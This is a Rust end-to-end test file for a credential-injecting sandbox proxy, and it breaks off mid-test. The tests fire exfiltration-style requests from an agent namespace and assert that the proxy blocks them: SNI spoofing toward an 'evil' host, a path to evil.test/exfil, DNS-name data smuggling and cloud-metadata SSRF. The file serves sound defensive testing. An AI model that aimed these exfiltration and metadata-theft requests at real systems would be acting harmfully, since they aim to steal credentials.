//! Transparent mode end to end: the real `paude-proxy` in a gateway namespace,
//! an agent namespace made by `scripts/paude-netns`, recording upstreams,
//! a fake resolver and tripwires in an "inet" namespace (see
//! `tests/netns_support/gateway.rs` for the lab and how names map). The agent
//! has no proxy settings; everything it reaches, it reaches through the nft
//! redirect. Root only: without root or CAP_NET_ADMIN every test prints a loud
//! skip notice, unless PAUDE_REQUIRE_NETNS=1 makes that a failure.
//!
//! Covered elsewhere and not repeated here (netns_script.rs, same rules with
//! stand-in listeners): `destroy` cleanup, a killed `run` cleaning up, agents
//! unable to reach each other, ICMP and raw IP, IPv6 re-enabled by a hostile
//! agent.

mod netns_support;

use std::fs;
use std::process::Stdio;

use netns_support::gateway::*;
use netns_support::*;
use serde_json::{Value, json};

/// curl inside the agent gives up after this many seconds instead of hanging.
const CURL_MAX_TIME_SECONDS: u32 = 15;

fn lab_with_proxy(test: &str, tag: &str) -> Option<(Lab, Gateway)> {
    lab_with_proxy_env(test, tag, &[])
}

fn lab_with_proxy_env(test: &str, tag: &str, env: &[(&str, &str)]) -> Option<(Lab, Gateway)> {
    if !netns_ready(test) || !tool_ready(test, "curl") {
        return None;
    }
    let mut lab = Lab::new(tag);
    let gateway = Gateway::start_with_env(&mut lab, env);
    Some((lab, gateway))
}

#[derive(Debug)]
struct CurlOut {
    /// `000` when no HTTP response arrived.
    code: String,
    remote_ip: String,
    body: String,
    stderr: String,
}

impl CurlOut {
    fn all(&self) -> String {
        format!("{}\n{}", self.body, self.stderr)
    }
}

/// Runs `curl ARGS` (a shell fragment, so `$OPENAI_API_KEY` is the agent's own
/// value) inside AGENT through `paude-netns exec`.
fn agent_curl(lab: &Lab, agent: &str, args: &str) -> CurlOut {
    let script = format!(
        "curl -sS --max-time {CURL_MAX_TIME_SECONDS} -w '\\n%{{http_code}} %{{remote_ip}}' {args}"
    );
    let out = run(&mut lab.script(&["exec", agent, "--", "sh", "-c", &script]));
    let (stdout, stderr) = text(&out);
    let (body, last) = stdout.rsplit_once('\n').unwrap_or(("", stdout.as_str()));
    let mut fields = last.split_whitespace();
    CurlOut {
        code: fields.next().unwrap_or("").to_string(),
        remote_ip: fields.next().unwrap_or("").to_string(),
        body: body.to_string(),
        stderr,
    }
}

fn assert_code(out: &CurlOut, code: &str, gw: &Gateway) {
    assert_eq!(
        out.code,
        code,
        "curl: {out:#?}\nproxy log tail:\n{}",
        tail(&gw.proxy_log())
    );
}

/// A 403 from the proxy itself: the reason is in the body, and no upstream
/// banner.
fn assert_refused_by_proxy(out: &CurlOut, reason: &str, gw: &Gateway) {
    assert_code(out, "403", gw);
    assert!(
        out.body.contains(reason) && !out.body.contains(UPSTREAM_BANNER),
        "expected the proxy's refusal mentioning {reason:?}: {out:#?}"
    );
}

fn result(r: &Value) -> &str {
    r["result"].as_str().unwrap_or("")
}

fn dns_addrs(r: &Value) -> Vec<String> {
    r["answers"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|x| x["addr"].as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

/// Exactly one request reached the upstream at ADDR; returns it.
fn one_request(events: Vec<Value>, addr: &str) -> Value {
    assert_eq!(events.len(), 1, "requests at {addr}: {events:#?}");
    events.into_iter().next().expect("one request")
}

#[test]
fn curl_without_proxy_env_gets_the_credential_injected() {
    let Some((mut lab, gw)) =
        lab_with_proxy("curl_without_proxy_env_gets_the_credential_injected", "cur")
    else {
        return;
    };
    let agent = lab.create_agent(&[]);

    let env = must(&mut lab.script(&["exec", &agent.name, "--", "env"]));
    for line in env.lines() {
        let name = line.split('=').next().unwrap_or("").to_ascii_lowercase();
        assert!(
            !name.ends_with("_proxy"),
            "the agent has a proxy setting: {line}"
        );
    }
    assert!(
        env.lines().any(|l| l == format!("OPENAI_API_KEY={DUMMY}")),
        "{env}"
    );

    let openai = agent_curl(
        &lab,
        &agent.name,
        "-H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.openai.com/v1/models",
    );
    assert_code(&openai, "200", &gw);
    // The agent resolved the name through the sandbox DNS and dialled that address.
    assert_eq!(openai.remote_ip, OPENAI_V4, "{openai:#?}");
    assert!(
        openai.body.contains(&format!(
            "{UPSTREAM_BANNER} local={OPENAI_V4} path=/v1/models"
        )),
        "{openai:#?}"
    );
    let req = one_request(gw.https_at(OPENAI_V4), OPENAI_V4);
    assert_eq!(
        req["sni"], OPENAI_NAME,
        "the proxy verified the upstream for the SNI name"
    );
    assert_eq!(request_line(&req), "GET /v1/models HTTP/1.1");
    assert_eq!(header(&req, "host"), vec![OPENAI_NAME]);
    assert_eq!(
        header(&req, "authorization"),
        vec![format!("Bearer {OPENAI_SECRET}")],
        "exactly the real credential, the dummy gone: {req:#}"
    );

    let anthropic = agent_curl(
        &lab,
        &agent.name,
        "-X POST -H 'content-type: application/json' -d '{}' \
         -H \"x-api-key: $ANTHROPIC_API_KEY\" https://api.anthropic.com/v1/messages",
    );
    assert_code(&anthropic, "200", &gw);
    let req = one_request(gw.https_at(ANTHROPIC_V4), ANTHROPIC_V4);
    assert_eq!(
        header(&req, "x-api-key"),
        vec![ANTHROPIC_SECRET.to_string()]
    );
    assert_eq!(req["body"], "{}");

    gw.tripwires.assert_silent("inet tripwires");
    gw.assert_no_leaks(&[&openai.all(), &anthropic.all(), &env]);
}

#[test]
fn node_fetch_gets_the_credential_injected() {
    const TEST: &str = "node_fetch_gets_the_credential_injected";
    if !netns_ready(TEST) || !tool_ready(TEST, "node") {
        return;
    }
    let mut lab = Lab::new("node");
    let gw = Gateway::start(&mut lab);
    let agent = lab.create_agent(&[]);
    // fetch ignores HTTP(S)_PROXY anyway; it trusts the proxy CA through
    // NODE_EXTRA_CA_CERTS, which paude-netns exec sets.
    let js = r#"
        fetch("https://api.openai.com/v1/chat/completions", {
            method: "POST",
            headers: {
                authorization: "Bearer " + process.env.OPENAI_API_KEY,
                "content-type": "application/json",
            },
            body: JSON.stringify({ model: "m" }),
        })
        .then(async (r) => { console.log("STATUS " + r.status); console.log(await r.text()); })
        .catch((e) => { console.error("FETCH FAILED", e, e.cause); process.exit(1); });
    "#;
    let out = run(&mut lab.script(&["exec", &agent.name, "--", "node", "-e", js]));
    let (stdout, stderr) = text(&out);
    assert!(
        out.status.success() && stdout.contains("STATUS 200"),
        "node fetch failed:\nstdout: {stdout}\nstderr: {stderr}\nproxy log tail:\n{}",
        tail(&gw.proxy_log())
    );
    assert!(
        stdout.contains(&format!("{UPSTREAM_BANNER} local={OPENAI_V4}")),
        "{stdout}"
    );
    let req = one_request(gw.https_at(OPENAI_V4), OPENAI_V4);
    assert_eq!(
        header(&req, "authorization"),
        vec![format!("Bearer {OPENAI_SECRET}")],
        "{req:#}"
    );
    assert_eq!(req["body"], r#"{"model":"m"}"#);
    gw.assert_no_leaks(&[&stdout, &stderr]);
}

#[test]
fn sni_spoofing_is_refused_and_neither_host_records_anything() {
    let Some((mut lab, gw)) = lab_with_proxy(
        "sni_spoofing_is_refused_and_neither_host_records_anything",
        "spf",
    ) else {
        return;
    };
    let agent = lab.create_agent(&[]);
    // The evil host even has a certificate valid for the name: only the
    // SNI <-> IP agreement stands between the credential and it.
    let tls = agent_curl(
        &lab,
        &agent.name,
        &format!(
            "--resolve {OPENAI_NAME}:443:{EVIL_V4} -H \"Authorization: Bearer $OPENAI_API_KEY\" \
             https://{OPENAI_NAME}/v1/models"
        ),
    );
    assert_refused_by_proxy(&tls, "does not resolve to", &gw);
    gw.expect_blocked(&agent.agent_addr, &[&format!("CONNECT {OPENAI_NAME}:443 ")]);

    let plain = agent_curl(
        &lab,
        &agent.name,
        &format!("--resolve {OPENAI_NAME}:80:{EVIL_V4} http://{OPENAI_NAME}/v1/models"),
    );
    assert_refused_by_proxy(&plain, "does not resolve to", &gw);
    gw.expect_blocked(&agent.agent_addr, &[&format!("GET http://{OPENAI_NAME}")]);

    for addr in [EVIL_V4, OPENAI_V4] {
        assert_eq!(
            gw.https_at(addr),
            Vec::<Value>::new(),
            "HTTPS upstream at {addr}"
        );
        assert_eq!(
            gw.http_at(addr),
            Vec::<Value>::new(),
            "HTTP upstream at {addr}"
        );
    }
    gw.tripwires.assert_silent("inet tripwires");
    gw.assert_no_leaks(&[&tls.all(), &plain.all()]);
}

#[test]
fn tls_without_sni_is_refused_unless_its_ip_is_allowed_and_never_gets_a_credential() {
    let Some((mut lab, gw)) = lab_with_proxy(
        "tls_without_sni_is_refused_unless_its_ip_is_allowed_and_never_gets_a_credential",
        "nos",
    ) else {
        return;
    };
    let agent = lab.create_agent(&[]);
    // curl sends no SNI for an IP literal.
    let by_ip = agent_curl(
        &lab,
        &agent.name,
        &format!("-H \"Authorization: Bearer $OPENAI_API_KEY\" https://{OPENAI_V4}/v1/models"),
    );
    assert_refused_by_proxy(&by_ip, "without a server name", &gw);
    gw.expect_blocked(&agent.agent_addr, &[&format!("CONNECT {OPENAI_V4}:443 ")]);
    assert_eq!(gw.https_at(OPENAI_V4), Vec::<Value>::new());

    // Control: ALLOWED_DOMAINS lists this IP literally, so the same kind of
    // connection goes through, and still carries no credential.
    let allowed = agent_curl(
        &lab,
        &agent.name,
        &format!("-H \"Authorization: Bearer $OPENAI_API_KEY\" https://{IP_ONLY_V4}/ip-only"),
    );
    assert_code(&allowed, "200", &gw);
    let req = one_request(gw.https_at(IP_ONLY_V4), IP_ONLY_V4);
    assert_eq!(req["sni"], Value::Null, "{req:#}");
    assert_eq!(
        header(&req, "authorization"),
        vec![format!("Bearer {DUMMY}")],
        "no credential without a name: {req:#}"
    );
    gw.assert_no_leaks(&[&by_ip.all(), &allowed.all()]);
}

#[test]
fn disallowed_sni_is_refused_with_a_blocked_log_line() {
    let Some((mut lab, gw)) =
        lab_with_proxy("disallowed_sni_is_refused_with_a_blocked_log_line", "dis")
    else {
        return;
    };
    let agent = lab.create_agent(&[]);
    for addr in [EVIL_V4, OPENAI_V4] {
        let out = agent_curl(
            &lab,
            &agent.name,
            &format!("--resolve evil.test:443:{addr} https://evil.test/exfil"),
        );
        assert_refused_by_proxy(&out, "not in ALLOWED_DOMAINS", &gw);
    }
    let line = gw.expect_blocked(&agent.agent_addr, &["CONNECT evil.test:443 "]);
    assert!(
        line.ends_with(&format!(
            " UTC {} TCP_DENIED/403 CONNECT evil.test:443 BLOCKED",
            agent.agent_addr
        )),
        "squid format: {line}"
    );
    assert_eq!(gw.https_at(EVIL_V4), Vec::<Value>::new());
    assert_eq!(gw.https_at(OPENAI_V4), Vec::<Value>::new());
    gw.assert_no_leaks(&[]);
}

#[test]
fn plain_http_carries_no_secret() {
    let Some((mut lab, gw)) = lab_with_proxy("plain_http_carries_no_secret", "pln") else {
        return;
    };
    let agent = lab.create_agent(&[]);
    let openai = agent_curl(
        &lab,
        &agent.name,
        "-H \"Authorization: Bearer $OPENAI_API_KEY\" http://api.openai.com/v1/models",
    );
    assert_code(&openai, "200", &gw);
    let anthropic = agent_curl(&lab, &agent.name, "http://api.anthropic.com/v1/messages");
    assert_code(&anthropic, "200", &gw);

    // The requests did arrive (so the check below is not vacuous), with the
    // agent's own dummy and nothing added.
    let req = one_request(gw.http_at(OPENAI_V4), OPENAI_V4);
    assert_eq!(request_line(&req), "GET /v1/models HTTP/1.1");
    assert_eq!(
        header(&req, "authorization"),
        vec![format!("Bearer {DUMMY}")]
    );
    let req = one_request(gw.http_at(ANTHROPIC_V4), ANTHROPIC_V4);
    assert_eq!(header(&req, "x-api-key"), Vec::<String>::new(), "{req:#}");
    assert_eq!(
        header(&req, "authorization"),
        Vec::<String>::new(),
        "{req:#}"
    );
    gw.assert_no_leaks(&[&openai.all(), &anthropic.all()]);
}

/// The agent's keep-alive client for the test below: two requests on one connection with
/// an idle pause between them, and for each its status and the client port it went from.
/// It says `http/1.1` in ALPN, as curl and node do (a client that says nothing is served by
/// hyper's auto-detecting connection, which does not park).
const KEEP_ALIVE_CLIENT: &str = r#"
import http.client, json, os, ssl, sys, time
pause = float(sys.argv[1])
ctx = ssl.create_default_context()
ctx.set_alpn_protocols(["http/1.1"])
c = http.client.HTTPSConnection("api.openai.com", 443, context=ctx, timeout=10)
out = []
for n in (1, 2):
    c.request("GET", f"/v1/models?n={n}", headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})
    r = c.getresponse()
    r.read()
    out.append({"status": r.status, "port": c.sock.getsockname()[1], "connection": r.getheader("connection")})
    if n == 1:
        time.sleep(pause)
print(json.dumps(out))
"#;

#[test]
fn an_idle_transparent_connection_parks_and_serves_its_next_request_on_the_same_connection() {
    let test =
        "an_idle_transparent_connection_parks_and_serves_its_next_request_on_the_same_connection";
    if !tool_ready(test, "python3") {
        return;
    }
    let Some((mut lab, gw)) =
        lab_with_proxy_env(test, "prk", &[("RUST_LOG", "paude_proxy=debug,info")])
    else {
        return;
    };
    let agent = lab.create_agent(&[]);
    // Comfortably past the proxy's park delay (500 ms, src/park.rs).
    let past_park = "1.5";
    let out = run(&mut lab.script(&[
        "exec",
        &agent.name,
        "--",
        "python3",
        "-c",
        KEEP_ALIVE_CLIENT,
        past_park,
    ]));
    let (stdout, stderr) = text(&out);
    let log = gw.proxy_log();
    let got: Value = serde_json::from_str(stdout.trim()).unwrap_or_else(|e| {
        panic!(
            "client output {stdout:?} ({e}), stderr {stderr}\n{}",
            tail(&log)
        )
    });
    assert_eq!(got[0]["status"], 200, "{got:#}\n{}", tail(&log));
    assert_eq!(got[1]["status"], 200, "{got:#}\n{}", tail(&log));
    assert_eq!(got[0]["connection"], Value::Null, "kept alive: {got:#}");
    assert_eq!(
        got[0]["port"], got[1]["port"],
        "one connection throughout: {got:#}"
    );
    // Without the park line this test would pass with parking gone.
    assert!(
        log.contains("idle connection parked"),
        "never parked:\n{}",
        tail(&log)
    );
    let paths: Vec<String> = gw
        .https_at(OPENAI_V4)
        .iter()
        .map(|r| request_line(r).to_string())
        .collect();
    assert_eq!(
        paths,
        ["GET /v1/models?n=1 HTTP/1.1", "GET /v1/models?n=2 HTTP/1.1"],
        "both reached the upstream once, in order"
    );
    gw.assert_no_leaks(&[&stdout, &stderr]);
}

#[test]
fn other_ports_udp_ipv6_and_the_explicit_port_never_get_out() {
    let Some((mut lab, gw)) = lab_with_proxy(
        "other_ports_udp_ipv6_and_the_explicit_port_never_get_out",
        "prt",
    ) else {
        return;
    };
    let agent = lab.create_agent(&[]);

    // TCP to another port is redirected to the proxy like any TCP, and its
    // port policy refuses it there.
    let tls_8080 = agent_curl(
        &lab,
        &agent.name,
        "-H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.openai.com:8080/",
    );
    assert_refused_by_proxy(&tls_8080, "port 8080 is not allowed", &gw);
    gw.expect_blocked(&agent.agent_addr, &["CONNECT api.openai.com:8080 "]);
    let http_22 = agent_curl(&lab, &agent.name, "http://api.openai.com:22/");
    assert_refused_by_proxy(&http_22, "port 22 is not allowed", &gw);
    gw.expect_blocked(&agent.agent_addr, &["http://api.openai.com:22/"]);

    // The proxy's explicit listener is not reachable either: the connection is
    // redirected to the transparent port and refused there.
    let explicit = agent_curl(
        &lab,
        &agent.name,
        &format!(
            "-x http://{}:{EXPLICIT_PORT} -H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.openai.com/",
            agent.host_addr
        ),
    );
    assert!(
        explicit.code != "200" && explicit.stderr.contains("403"),
        "{explicit:#?}"
    );

    let results = lab.probes(
        &agent.name,
        &json!([
            {"kind": "tcp", "host": INET_FAR_V4, "port": 22, "send": "SSH-2.0-OpenSSH_9.6\r\n"},
            {"kind": "tcp", "host": EVIL_V4, "port": 8080, "send": "PING\n"},
            {"kind": "udp", "host": OPENAI_V4, "port": 443, "send": "QUIC-INITIAL"},
            {"kind": "udp", "host": INET_FAR_V4, "port": 123},
            {"kind": "tcp", "host": INET_V6, "port": 443},
            {"kind": "udp", "host": INET_V6, "port": 443},
            {"kind": "dns", "host": agent.host_addr, "name": OPENAI_NAME, "qtype": "AAAA"},
        ]),
    );
    // Non-TLS bytes on ports 22 and 8080 are answered by the proxy's
    // transparent listener (as unparsable HTTP), never by the tripwires.
    for (i, r) in results.iter().enumerate().take(2) {
        let reply = r["reply"].as_str().unwrap_or("");
        assert!(
            reply.starts_with("HTTP/1.1 400 ") && !reply.contains(TRIPWIRE_BANNER),
            "probe {i}: {r:#}"
        );
    }
    // QUIC is rejected, not dropped, so clients fall back to TCP at once.
    assert_eq!(result(&results[2]), "refused", "{:#}", results[2]);
    assert_eq!(result(&results[3]), "refused", "{:#}", results[3]);
    for r in &results[4..6] {
        assert!(
            !matches!(result(r), "connected" | "reply"),
            "IPv6 got through: {r:#}"
        );
    }
    // The sandbox DNS hands out no IPv6 address for a lab name.
    assert_eq!(result(&results[6]), "reply", "{:#}", results[6]);
    assert_eq!(results[6]["rcode"], 0);
    assert_eq!(dns_addrs(&results[6]), Vec::<String>::new());

    gw.tripwires
        .assert_silent("inet tripwires (TCP 22/8080, UDP 443/123)");
    gw.https.assert_silent("HTTPS upstream");
    gw.http.assert_silent("HTTP upstream");
    gw.assert_no_leaks(&[&tls_8080.all(), &http_22.all(), &explicit.all()]);
}

#[test]
fn sandbox_dns_answers_allowed_names_and_nothing_reaches_an_outside_resolver() {
    let Some((mut lab, gw)) = lab_with_proxy(
        "sandbox_dns_answers_allowed_names_and_nothing_reaches_an_outside_resolver",
        "dns",
    ) else {
        return;
    };
    let agent = lab.create_agent(&[]);
    // As long as a DNS name can be (253 bytes): the shape of data smuggled out
    // in query names.
    let exfil = format!(
        "{}.evil.test",
        ["x", "y", "z", "w"].map(|c| c.repeat(60)).join(".")
    );
    assert_eq!(exfil.len(), 253);
    let host = agent.host_addr.as_str();
    let results = lab.probes(
        &agent.name,
        &json!([
            {"kind": "dns", "host": host, "name": OPENAI_NAME},
            {"kind": "dns", "host": host, "name": OPENAI_NAME, "tcp": true},
            // Straight to "internet" resolvers: redirected to the sandbox DNS.
            {"kind": "dns", "host": INET_V4, "name": OPENAI_NAME},
            {"kind": "dns", "host": INET_FAR_V4, "name": OPENAI_NAME, "tcp": true},
            {"kind": "dns", "host": host, "name": "evil.test"},
            {"kind": "dns", "host": INET_V4, "name": exfil},
            // Allowed, unknown to the hosts file: the upstream resolver answers.
            {"kind": "dns", "host": host, "name": CDN_NAME},
        ]),
    );
    for (i, r) in results.iter().enumerate() {
        assert_eq!(result(r), "reply", "probe {i}: {r:#}");
    }
    for r in &results[..4] {
        assert_eq!(r["rcode"], 0, "{r:#}");
        assert_eq!(dns_addrs(r), vec![OPENAI_V4.to_string()], "{r:#}");
        let ttl = r["answers"][0]["ttl"].as_u64().unwrap_or(0);
        assert!(ttl > 0, "the answer carries a TTL: {r:#}");
    }
    for r in &results[4..6] {
        assert_eq!(r["rcode"], 3, "NXDOMAIN: {r:#}");
        assert_eq!(dns_addrs(r), Vec::<String>::new());
    }
    assert_eq!(results[6]["rcode"], 0, "{:#}", results[6]);
    assert_eq!(dns_addrs(&results[6]), vec![CDN_V4.to_string()]);

    let line = gw.expect_blocked(&agent.agent_addr, &["DNS evil.test BLOCKED"]);
    assert!(
        line.ends_with(" TCP_DENIED/403 DNS evil.test BLOCKED"),
        "{line}"
    );
    gw.expect_blocked(&agent.agent_addr, &["DNS xxxxxxxxxx"]);

    // The resolver behind the proxy heard only the allowed name the hosts
    // file does not know; the exfiltration name never left.
    let asked: Vec<String> = gw
        .resolver
        .events()
        .iter()
        .filter_map(|e| e["name"].as_str().map(str::to_string))
        .collect();
    assert!(asked.iter().any(|n| n == CDN_NAME), "{asked:?}");
    assert!(
        asked.iter().all(|n| n == CDN_NAME),
        "only {CDN_NAME} may be forwarded: {asked:?}"
    );
    gw.tripwires
        .assert_silent("inet resolver tripwires (UDP/TCP 53)");
    gw.assert_no_leaks(&[]);
}

#[test]
fn metadata_address_is_never_reached() {
    let Some((mut lab, gw)) = lab_with_proxy("metadata_address_is_never_reached", "md") else {
        return;
    };
    let agent = lab.create_agent(&[]);
    let by_ip = agent_curl(
        &lab,
        &agent.name,
        &format!("-H 'Metadata-Flavor: Google' http://{METADATA_V4}/computeMetadata/v1/"),
    );
    assert_refused_by_proxy(&by_ip, "not in ALLOWED_DOMAINS", &gw);
    // An allowed name that resolves (through the sandbox DNS, so the agreement
    // check passes) to the metadata address: only the SSRF guard is left.
    let by_name_tls = agent_curl(
        &lab,
        &agent.name,
        &format!("https://{METADATA_NAME}/latest/meta-data/"),
    );
    assert_refused_by_proxy(&by_name_tls, "link-local", &gw);
    assert_eq!(by_name_tls.remote_ip, METADATA_V4);
    let by_name_http = agent_curl(
        &lab,
        &agent.name,
        &format!("http://{METADATA_NAME}/latest/meta-data/"),
    );
    assert_refused_by_proxy(&by_name_http, "link-local", &gw);
    let spoofed = agent_curl(
        &lab,
        &agent.name,
        &format!(
            "--resolve {OPENAI_NAME}:443:{METADATA_V4} -H \"Authorization: Bearer $OPENAI_API_KEY\" \
             https://{OPENAI_NAME}/"
        ),
    );
    assert_refused_by_proxy(&spoofed, "does not resolve to", &gw);
    gw.expect_blocked(
        &agent.agent_addr,
        &[&format!("GET http://{METADATA_V4}/computeMetadata/v1/ ")],
    );
    gw.expect_blocked(
        &agent.agent_addr,
        &[&format!("CONNECT {METADATA_NAME}:443 ")],
    );
    gw.expect_blocked(
        &agent.agent_addr,
        &[&format!("GET http://{METADATA_NAME}/latest/meta-data/ ")],
    );

    let results = lab.probes(
        &agent.name,
        &json!([
            {"kind": "udp", "host": METADATA_V4, "port": 80},
            {"kind": "tcp", "host": METADATA_V4, "port": 22, "send": "PING\n"},
        ]),
    );
    assert_eq!(result(&results[0]), "refused", "{:#}", results[0]);
    assert!(
        !results[1]["reply"]
            .as_str()
            .unwrap_or("")
            .contains(TRIPWIRE_BANNER),
        "{:#}",
        results[1]
    );
    assert_eq!(gw.https_at(METADATA_V4), Vec::<Value>::new());
    assert_eq!(gw.http_at(METADATA_V4), Vec::<Value>::new());
    gw.tripwires.assert_silent("metadata tripwires");
    gw.assert_no_leaks(&[
        &by_ip.all(),
        &by_name_tls.all(),
        &by_name_http.all(),
        &spoofed.all(),
    ]);
}

#[test]
fn two_agents_at_once_and_the_answer_record_is_per_client() {
    let Some((mut lab, gw)) = lab_with_proxy(
        "two_agents_at_once_and_the_answer_record_is_per_client",
        "two",
    ) else {
        return;
    };
    let a = lab.create_agent(&[]);
    let b = lab.create_agent(&[]);

    let (out_a, out_b) = std::thread::scope(|s| {
        let call = |agent: &str, path: &str| {
            let args =
                format!("-H \"Authorization: Bearer $OPENAI_API_KEY\" https://{OPENAI_NAME}{path}");
            let lab = &lab;
            let agent = agent.to_string();
            s.spawn(move || agent_curl(lab, &agent, &args))
        };
        let ta = call(&a.name, "/from-a");
        let tb = call(&b.name, "/from-b");
        (ta.join().expect("agent a"), tb.join().expect("agent b"))
    });
    assert_code(&out_a, "200", &gw);
    assert_code(&out_b, "200", &gw);
    let mut paths: Vec<String> = gw.https_at(OPENAI_V4).iter().map(request_line).collect();
    paths.sort();
    assert_eq!(paths, vec!["GET /from-a HTTP/1.1", "GET /from-b HTTP/1.1"]);
    for req in gw.https_at(OPENAI_V4) {
        assert_eq!(
            header(&req, "authorization"),
            vec![format!("Bearer {OPENAI_SECRET}")]
        );
    }

    // cdn.test is known only to the resolver behind the sandbox DNS, so the
    // proxy's own lookup cannot vouch for it: only the answer record can.
    // Agent A asked the sandbox DNS; its connection to that address is accepted.
    let via_dns = agent_curl(&lab, &a.name, &format!("https://{CDN_NAME}/via-dns"));
    assert_code(&via_dns, "200", &gw);
    assert_eq!(via_dns.remote_ip, CDN_V4);
    let req = one_request(gw.https_at(CDN_V4), CDN_V4);
    assert_eq!(request_line(&req), "GET /via-dns HTTP/1.1");
    assert_eq!(
        header(&req, "authorization"),
        Vec::<String>::new(),
        "no route, no credential"
    );

    // Agent B never asked: the same name and address are refused for it.
    let no_dns = agent_curl(
        &lab,
        &b.name,
        &format!("--resolve {CDN_NAME}:443:{CDN_V4} https://{CDN_NAME}/no-dns"),
    );
    assert_refused_by_proxy(&no_dns, "does not resolve to", &gw);
    gw.expect_blocked(&b.agent_addr, &[&format!("CONNECT {CDN_NAME}:443 ")]);
    // And A's record covers only the address it was given.
    let other_ip = agent_curl(
        &lab,
        &a.name,
        &format!("--resolve {CDN_NAME}:443:{EVIL_V4} https://{CDN_NAME}/other-ip"),
    );
    assert_refused_by_proxy(&other_ip, "does not resolve to", &gw);
    assert_eq!(gw.https_at(CDN_V4).len(), 1, "{:#?}", gw.https_at(CDN_V4));
    assert_eq!(gw.https_at(EVIL_V4), Vec::<Value>::new());
    gw.assert_no_leaks(&[
        &out_a.all(),
        &out_b.all(),
        &via_dns.all(),
        &no_dns.all(),
        &other_ip.all(),
    ]);
}

/// The README's one command: `paude-netns run -- CMD` wraps an unmodified
/// client, and nothing of the agent is left once it exits.
#[test]
fn run_wraps_an_agent_end_to_end_and_leaves_nothing_behind() {
    let Some((mut lab, gw)) = lab_with_proxy(
        "run_wraps_an_agent_end_to_end_and_leaves_nothing_behind",
        "run",
    ) else {
        return;
    };
    let out_path = lab.dir.path().join("run.out");
    let ca = lab.ca.to_string_lossy().into_owned();
    let max_time = CURL_MAX_TIME_SECONDS.to_string();
    let mut child = lab
        .script(&[
            "run",
            "--ca",
            &ca,
            "--",
            "curl",
            "-sS",
            "--max-time",
            &max_time,
            "-H",
            &format!("Authorization: Bearer {DUMMY}"),
            &format!("https://{OPENAI_NAME}/wrapped"),
        ])
        .stdin(Stdio::null())
        .stdout(fs::File::create(&out_path).expect("run output"))
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn paude-netns run");
    // nsenter execs the script, so its $$ (and the agent's name) is this pid.
    let name = format!("run-{}", child.id());
    lab.register_agent(&name);
    let status = wait_child(&mut child, EXIT_TIMEOUT);
    let stdout = fs::read_to_string(&out_path).unwrap_or_default();
    assert!(
        status.success()
            && stdout.contains(&format!(
                "{UPSTREAM_BANNER} local={OPENAI_V4} path=/wrapped"
            )),
        "run failed ({status}): {stdout}\nproxy log tail:\n{}",
        tail(&gw.proxy_log())
    );
    let req = one_request(gw.https_at(OPENAI_V4), OPENAI_V4);
    assert_eq!(
        header(&req, "authorization"),
        vec![format!("Bearer {OPENAI_SECRET}")]
    );

    let namespaces = must(&mut cmd("ip", &["netns", "list"]));
    assert!(
        !namespaces
            .lines()
            .any(|l| l.split_whitespace().next() == Some(name.as_str())),
        "{namespaces}"
    );
    assert!(!std::path::Path::new(&format!("/etc/netns/{name}")).exists());
    let tables = lab.nft_tables();
    assert!(!tables.contains(&format!("paude-{name}")), "{tables}");
    let links = must(&mut cmd("ip", &["-n", &lab.gw, "-o", "link", "show"]));
    let names: Vec<&str> = links
        .lines()
        .filter_map(|l| l.split(": ").nth(1))
        .map(|n| n.split('@').next().unwrap_or(n))
        .collect();
    assert_eq!(names, vec!["lo", "up0"], "a veth was left in gw:\n{links}");
    gw.assert_no_leaks(&[&stdout]);
}

/// With a Google credential configured, the proxy emulates the GCE metadata server for
/// agents: `metadata.google.internal` resolves through the sandbox DNS to 169.254.169.254,
/// the redirected plain-HTTP request is answered by the proxy with a placeholder token, and
/// nothing ever reaches the real 169.254.169.254 (which the lab does listen on).
#[test]
fn metadata_server_is_emulated_when_gcloud_is_configured() {
    let test = "metadata_server_is_emulated_when_gcloud_is_configured";
    if !netns_ready(test) || !tool_ready(test, "curl") {
        return;
    }
    let mut lab = Lab::new("gmd");
    // An authorized-user ADC: parsed at startup; no token is fetched for the metadata
    // answers, which hand out a placeholder.
    let adc = r#"{"type":"authorized_user","client_id":"lab-client","client_secret":"lab-client-secret-0123456789","refresh_token":"lab-refresh-token-0123456789"}"#;
    let gw = Gateway::start_with_env(&mut lab, &[("GCP_ADC_JSON", adc)]);
    let agent = lab.create_agent(&[]);
    let token_path = "/computeMetadata/v1/instance/service-accounts/default/token";

    let by_name = agent_curl(
        &lab,
        &agent.name,
        &format!("-H 'Metadata-Flavor: Google' http://metadata.google.internal{token_path}"),
    );
    assert_code(&by_name, "200", &gw);
    assert_eq!(
        by_name.remote_ip, METADATA_V4,
        "the sandbox DNS pins the name"
    );
    let token: Value = serde_json::from_str(&by_name.body).expect("token JSON");
    assert_eq!(token["access_token"], "paude-proxy-managed");

    let by_ip = agent_curl(
        &lab,
        &agent.name,
        &format!("-H 'Metadata-Flavor: Google' http://{METADATA_V4}{token_path}"),
    );
    assert_code(&by_ip, "200", &gw);
    let no_flavor = agent_curl(
        &lab,
        &agent.name,
        &format!("http://{METADATA_V4}{token_path}"),
    );
    assert_code(&no_flavor, "403", &gw);

    assert!(
        gw.http_at(METADATA_V4).is_empty(),
        "the real metadata address was reached: {:?}",
        gw.http_at(METADATA_V4)
    );
    for secret in [
        "lab-client-secret-0123456789",
        "lab-refresh-token-0123456789",
    ] {
        assert!(
            !by_name.all().contains(secret) && !gw.proxy_log().contains(secret),
            "an ADC secret leaked"
        );
    }
}

/// Transparent mode with a Claude subscription: the agent (holding the stub file
/// `paude-netns exec` installed and sending its placeholder) reaches the upstream with
/// the real OAuth access token from the proxy's file, the API key route's `x-api-key`
/// owned and removed.
#[test]
fn claude_subscription_is_injected_in_transparent_mode() {
    const TEST: &str = "claude_subscription_is_injected_in_transparent_mode";
    if !netns_ready(TEST) || !tool_ready(TEST, "curl") {
        return;
    }
    let mut lab = Lab::new("cla");
    let creds = lab.dir.path().join("claude-credentials.json");
    let access = "sk-ant-oat01-netns-REAL-access-5e1d7a90";
    let far = 4_102_444_800_000u64;
    fs::write(
        &creds,
        json!({"claudeAiOauth": {"accessToken": access, "refreshToken": "sk-ant-ort01-netns-REAL-r", "expiresAt": far}})
            .to_string(),
    )
    .expect("write creds");
    use std::os::unix::fs::PermissionsExt;
